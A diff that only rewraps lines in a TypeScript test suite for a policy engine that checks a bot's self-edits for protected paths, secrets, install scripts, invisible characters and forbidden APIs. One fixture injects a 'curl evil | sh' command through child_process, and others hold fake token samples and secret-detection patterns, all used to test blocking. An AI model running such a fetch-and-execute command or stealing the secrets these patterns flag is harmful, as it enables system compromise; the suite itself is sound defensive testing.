@@ -71,7 +71,14 @@ describe("evaluate: fail closed", () => {
     expect(v.automerge).toBe(false);
     expect(v.findings).toEqual([
       { rule: "policy/load", severity: "error", file: "policies/ouro.yml", line: 2, column: 1, message: expect.stringContaining("bogus") },
-      { rule: "policy/load", severity: "error", file: "policies/ouro.yml", line: 4, column: 10, message: expect.stringContaining("limits.files") },
+      {
+        rule: "policy/load",
+        severity: "error",
+        file: "policies/ouro.yml",
+        line: 4,
+        column: 10,
+        message: expect.stringContaining("limits.files"),
+      },
     ]);
   });
 
@@ -82,14 +89,21 @@ describe("evaluate: fail closed", () => {
 });
 
 describe("evaluate: protected and editable paths", () => {
-  it.each(["policies/ouro.yml", ".github/workflows/policy.yml", "actions/policy-check/src/run.ts", "policy-engine/engine.ts", "contract/app-link.ts", "deploy-hook/main.ts", "bot/core/plugin.ts", "package.json", "CODEOWNERS"])(
-    "a self-edit touching %s is blocked",
-    (path) => {
-      const v = run([...goodSelfEdit(), modifiedFile(path, "x\n", "y\n", [1])]);
-      expect(v.decision).toBe("block");
-      expect(v.findings).toContainEqual(expect.objectContaining({ rule: "paths/protected", severity: "error", file: path }));
-    },
-  );
+  it.each([
+    "policies/ouro.yml",
+    ".github/workflows/policy.yml",
+    "actions/policy-check/src/run.ts",
+    "policy-engine/engine.ts",
+    "contract/app-link.ts",
+    "deploy-hook/main.ts",
+    "bot/core/plugin.ts",
+    "package.json",
+    "CODEOWNERS",
+  ])("a self-edit touching %s is blocked", (path) => {
+    const v = run([...goodSelfEdit(), modifiedFile(path, "x\n", "y\n", [1])]);
+    expect(v.decision).toBe("block");
+    expect(v.findings).toContainEqual(expect.objectContaining({ rule: "paths/protected", severity: "error", file: path }));
+  });
 
   it("a self-edit outside the editable paths is blocked", () => {
     const v = run([addedFile("docs/notes.md", "hi\n")]);
@@ -116,7 +130,18 @@ describe("evaluate: protected and editable paths", () => {
   });
 
   it("renames out of a protected path are caught on both sides", () => {
-    const rename: ChangedFile = { path: "bot/plugins/x/plugin.ts", oldPath: "bot/core/plugin.ts", status: "renamed", oldMode: "100644", newMode: "100644", binary: false, before: "x\n", after: "x\n", addedLines: [], removedLineCount: 0 };
+    const rename: ChangedFile = {
+      path: "bot/plugins/x/plugin.ts",
+      oldPath: "bot/core/plugin.ts",
+      status: "renamed",
+      oldMode: "100644",
+      newMode: "100644",
+      binary: false,
+      before: "x\n",
+      after: "x\n",
+      addedLines: [],
+      removedLineCount: 0,
+    };
     const self = run([rename]);
     expect(self.decision).toBe("block");
     expect(rules(self)).toEqual(expect.arrayContaining(["paths/protected", "paths/rename-protected"]));
@@ -126,12 +151,30 @@ describe("evaluate: protected and editable paths", () => {
   });
 
   it("renames into a protected path are caught", () => {
-    const rename: ChangedFile = { path: ".github/workflows/x.yml", oldPath: "bot/plugins/x/x.yml", status: "renamed", binary: false, before: "a\n", after: "a\n", addedLines: [], removedLineCount: 0 };
+    const rename: ChangedFile = {
+      path: ".github/workflows/x.yml",
+      oldPath: "bot/plugins/x/x.yml",
+      status: "renamed",
+      binary: false,
+      before: "a\n",
+      after: "a\n",
+      addedLines: [],
+      removedLineCount: 0,
+    };
     expect(rules(run([rename]))).toEqual(expect.arrayContaining(["paths/protected", "paths/rename-protected"]));
   });
 
   it("a deletion of a protected file by a self-edit is blocked", () => {
-    const del: ChangedFile = { path: "policies/ouro.yml", status: "deleted", oldMode: "100644", newMode: "000000", binary: false, before: "x\n", addedLines: [], removedLineCount: 1 };
+    const del: ChangedFile = {
+      path: "policies/ouro.yml",
+      status: "deleted",
+      oldMode: "100644",
+      newMode: "000000",
+      binary: false,
+      before: "x\n",
+      addedLines: [],
+      removedLineCount: 1,
+    };
     expect(run([del]).decision).toBe("block");
   });
 });
@@ -145,8 +188,23 @@ describe("evaluate: file kinds", () => {
   });
 
   it("flags a submodule, a binary file and a file becoming executable", () => {
-    const sub: ChangedFile = { path: "bot/plugins/hello/vendor", status: "added", newMode: "160000", binary: false, after: "Subproject commit abc", addedLines: [], removedLineCount: 0 };
-    const bin: ChangedFile = { path: "bot/plugins/hello/logo.png", status: "added", newMode: "100644", binary: true, addedLines: [], removedLineCount: 0 };
+    const sub: ChangedFile = {
+      path: "bot/plugins/hello/vendor",
+      status: "added",
+      newMode: "160000",
+      binary: false,
+      after: "Subproject commit abc",
+      addedLines: [],
+      removedLineCount: 0,
+    };
+    const bin: ChangedFile = {
+      path: "bot/plugins/hello/logo.png",
+      status: "added",
+      newMode: "100644",
+      binary: true,
+      addedLines: [],
+      removedLineCount: 0,
+    };
     const exec = modifiedFile("bot/plugins/hello/run.sh", "echo\n", "echo\n", [], { oldMode: "100644", newMode: "100755" });
     const v = run([...goodSelfEdit(), sub, bin, exec]);
     expect(rules(v)).toEqual(expect.arrayContaining(["files/submodule", "files/binary", "files/mode"]));
@@ -167,7 +225,10 @@ describe("evaluate: Trojan Source and invisible characters", () => {
     const hostile = run([...goodSelfEdit().slice(1), addedFile("bot/plugins/hello/index.ts", PLUGIN.replace("Hello!", "Hel\u200Blo!"))]);
     expect(rules(hostile)).toContain("unicode/invisible");
     const family = "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}";
-    const emoji = run([...goodSelfEdit().slice(1), addedFile("bot/plugins/hello/index.ts", PLUGIN.replace("Hello!", `Hello ${family} \u2764\uFE0F \u{1F44D}\u{1F3FD}`))]);
+    const emoji = run([
+      ...goodSelfEdit().slice(1),
+      addedFile("bot/plugins/hello/index.ts", PLUGIN.replace("Hello!", `Hello ${family} \u2764\uFE0F \u{1F44D}\u{1F3FD}`)),
+    ]);
     expect(emoji.findings).toEqual([]);
   });
 
@@ -184,7 +245,11 @@ describe("evaluate: secrets", () => {
     ["GitHub PAT", `ghp_${"a1B2c3D4e5".repeat(3)}abcdef`, "secrets/github-token"],
     ["GitHub app token", `ghs_${"Z9y8X7w6V5".repeat(3)}uvwxyz`, "secrets/github-token"],
     ["fine-grained PAT", `github_pat_11ABCDEFG0${"x".repeat(72)}`, "secrets/github-token"],
-    ["Discord bot token", ["MTA4NjQ1", "NjI3NDU2", "NzI4NjY1Ng", ".GkXyZa.", "abcdefghijklmn", "opqrstuvwxyz0123"].join(""), "secrets/discord-token"],
+    [
+      "Discord bot token",
+      ["MTA4NjQ1", "NjI3NDU2", "NzI4NjY1Ng", ".GkXyZa.", "abcdefghijklmn", "opqrstuvwxyz0123"].join(""),
+      "secrets/discord-token",
+    ],
     ["OpenAI key", `sk-proj-${"Ab3".repeat(16)}`, "secrets/openai-key"],
     ["private key", ["-----BEGIN OPENSSH", "PRIVATE KEY-----"].join(" "), "secrets/private-key"],
     ["AWS key id", ["AKIA", "IOSFODNN7EXAMPLE"].join(""), "secrets/aws-key"],
@@ -202,13 +267,17 @@ describe("evaluate: secrets", () => {
     const hostile = `export const key = "q8Zr2Lk9Vw3Xp7Tn1Ys5Bd4Hm6Jf0Gc";\n`;
     expect(rules(run([addedFile("bot/plugins/hello/key.ts", hostile)], HUMAN))).toContain("secrets/high-entropy");
     const benign = `export const a = "550e8400-e29b-41d4-a716-446655440000";\nexport const b = "https://discord.com/api/v10/applications/123456789012345678/commands";\nexport const c = "SlashCommandBuilderOptionsForTheHelloPlugin";\nexport const d = "1234567890123456789";\nexport const e = "da39a3ee5e6b4b0d3255bfef95601890afd80709";\n`;
-    expect(rules(run([addedFile("bot/plugins/hello/consts.ts", benign), addedFile("bot/plugins/hello/consts.test.ts", "export {};\n")], HUMAN))).toEqual([]);
+    expect(
+      rules(run([addedFile("bot/plugins/hello/consts.ts", benign), addedFile("bot/plugins/hello/consts.test.ts", "export {};\n")], HUMAN)),
+    ).toEqual([]);
   });
 });
 
 describe("evaluate: limits (anomalies)", () => {
   it("flags more than 5 files and more than 10,000 characters", () => {
-    const files = Array.from({ length: 6 }, (_, i) => addedFile(`bot/plugins/big/f${i}.test.ts`, `export const x${i} = "${"a b ".repeat(500)}";\n`));
+    const files = Array.from({ length: 6 }, (_, i) =>
+      addedFile(`bot/plugins/big/f${i}.test.ts`, `export const x${i} = "${"a b ".repeat(500)}";\n`),
+    );
     const v = run(files);
     expect(rules(v)).toEqual(expect.arrayContaining(["limits/files", "limits/chars-added", "limits/new-files"]));
     expect(v.decision).toBe("block");
@@ -222,7 +291,8 @@ describe("evaluate: limits (anomalies)", () => {
 });
 
 describe("evaluate: dependencies", () => {
-  const manifest = (deps: Record<string, string>, scripts: Record<string, string> = {}) => JSON.stringify({ name: "ouro", scripts, dependencies: deps }, null, 2) + "\n";
+  const manifest = (deps: Record<string, string>, scripts: Record<string, string> = {}) =>
+    JSON.stringify({ name: "ouro", scripts, dependencies: deps }, null, 2) + "\n";
   const before = manifest({ zod: "^4.0.0" });
 
   it("blocks a denied package and flags install scripts and non-registry sources", () => {
@@ -234,11 +304,15 @@ describe("evaluate: dependencies", () => {
 
   it("enforces an allowlist when one is set", () => {
     const policy = withPolicy("");
-    const strict = loadPolicy([{ path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("allow: [] # empty: any package not denied", "allow: [zod]") }]);
+    const strict = loadPolicy([
+      { path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("allow: [] # empty: any package not denied", "allow: [zod]") },
+    ]);
     expect(policy.ok && strict.ok).toBe(true);
     const after = manifest({ zod: "^4.1.0", lodash: "^4.17.21" });
     const v = run([modifiedFile("package.json", before, after, [4, 5])], HUMAN, strict);
-    expect(v.findings.filter((f) => f.rule === "deps/not-allowed")).toEqual([expect.objectContaining({ message: expect.stringContaining("lodash") })]);
+    expect(v.findings.filter((f) => f.rule === "deps/not-allowed")).toEqual([
+      expect.objectContaining({ message: expect.stringContaining("lodash") }),
+    ]);
   });
 
   it("blocks new lockfile entries with install scripts", () => {
@@ -249,7 +323,9 @@ describe("evaluate: dependencies", () => {
       "node_modules/sneaky": { version: "1.0.0", resolved: "https://registry.npmjs.org/sneaky/-/sneaky-1.0.0.tgz", hasInstallScript: true },
     });
     const v = run([modifiedFile("package-lock.json", lb, la, [3])], HUMAN);
-    expect(v.findings).toContainEqual(expect.objectContaining({ rule: "deps/install-script", severity: "error", message: expect.stringContaining("sneaky") }));
+    expect(v.findings).toContainEqual(
+      expect.objectContaining({ rule: "deps/install-script", severity: "error", message: expect.stringContaining("sneaky") }),
+    );
   });
 });
 
@@ -266,8 +342,20 @@ describe("evaluate: tests travel with plugin code", () => {
   });
 
   it("flags deleted tests and added .skip/.only", () => {
-    const del: ChangedFile = { path: "bot/plugins/ping/ping.test.ts", status: "deleted", binary: false, before: "x\n", addedLines: [], removedLineCount: 1 };
-    const skipped = modifiedFile("bot/plugins/hello/hello.test.ts", PLUGIN_TEST, PLUGIN_TEST.replace('it("is named"', 'it.skip("is named"'), [5]);
+    const del: ChangedFile = {
+      path: "bot/plugins/ping/ping.test.ts",
+      status: "deleted",
+      binary: false,
+      before: "x\n",
+      addedLines: [],
+      removedLineCount: 1,
+    };
+    const skipped = modifiedFile(
+      "bot/plugins/hello/hello.test.ts",
+      PLUGIN_TEST,
+      PLUGIN_TEST.replace('it("is named"', 'it.skip("is named"'),
+      [5],
+    );
     const v = run([addedFile("bot/plugins/hello/index.ts", PLUGIN), skipped, del]);
     expect(rules(v)).toEqual(expect.arrayContaining(["tests/deleted", "tests/skip-only"]));
   });
@@ -280,7 +368,10 @@ describe("evaluate: tests travel with plugin code", () => {
 
 describe("evaluate: forbidden APIs decide the verdict", () => {
   it("blocks a self-edit plugin using child_process, even in evaluate-less defaults", () => {
-    const evil = PLUGIN.replace("await call.reply(\"Hello!\");", 'const { exec } = require("node:child_process");\n        exec("curl evil | sh");');
+    const evil = PLUGIN.replace(
+      'await call.reply("Hello!");',
+      'const { exec } = require("node:child_process");\n        exec("curl evil | sh");',
+    );
     const v = run([addedFile("bot/plugins/hello/index.ts", evil), goodSelfEdit()[1]]);
     expect(v.decision).toBe("block");
     expect(v.findings).toContainEqual(expect.objectContaining({ rule: "api/forbidden-module", line: 11 }));
@@ -289,15 +380,27 @@ describe("evaluate: forbidden APIs decide the verdict", () => {
 
 describe("evaluate: mode and overrides", () => {
   it("evaluate mode never blocks but says what enforce would do", () => {
-    const v = run([modifiedFile("policies/ouro.yml", "x\n", "y\n", [1])], SELF, withPolicy("").ok ? loadPolicy([{ path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("mode: enforce", "mode: evaluate") }]) : loaded);
+    const v = run(
+      [modifiedFile("policies/ouro.yml", "x\n", "y\n", [1])],
+      SELF,
+      withPolicy("").ok
+        ? loadPolicy([{ path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("mode: enforce", "mode: evaluate") }])
+        : loaded,
+    );
     expect(v.mode).toBe("evaluate");
     expect(v.decision).toBe("needs-approval");
     expect(v.automerge).toBe(false);
-    expect(v.findings.at(-1)).toMatchObject({ rule: "policy/evaluate-mode", severity: "info", message: expect.stringContaining("BLOCKED") });
+    expect(v.findings.at(-1)).toMatchObject({
+      rule: "policy/evaluate-mode",
+      severity: "info",
+      message: expect.stringContaining("BLOCKED"),
+    });
   });
 
   it("overrides can lower or silence a rule", () => {
-    const p = loadPolicy([{ path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("overrides: {}", "overrides:\n  tests/missing: off") }]);
+    const p = loadPolicy([
+      { path: "policies/ouro.yml", text: DEFAULT_POLICY_TEXT.replace("overrides: {}", "overrides:\n  tests/missing: off") },
+    ]);
     expect(p.ok).toBe(true);
     expect(run([addedFile("bot/plugins/hello/index.ts", PLUGIN)], SELF, p).findings).toEqual([]);
   });
@@ -319,6 +422,8 @@ describe("evaluate: where forbidden-API rules apply", () => {
   });
 
   it("a self-edit is checked in every changed code file", () => {
-    expect(rules(run([addedFile("deploy-hook/release-mirror.ts", spawner)]))).toEqual(expect.arrayContaining(["api/forbidden-module", "paths/protected"]));
+    expect(rules(run([addedFile("deploy-hook/release-mirror.ts", spawner)]))).toEqual(
+      expect.arrayContaining(["api/forbidden-module", "paths/protected"]),
+    );
   });
 });
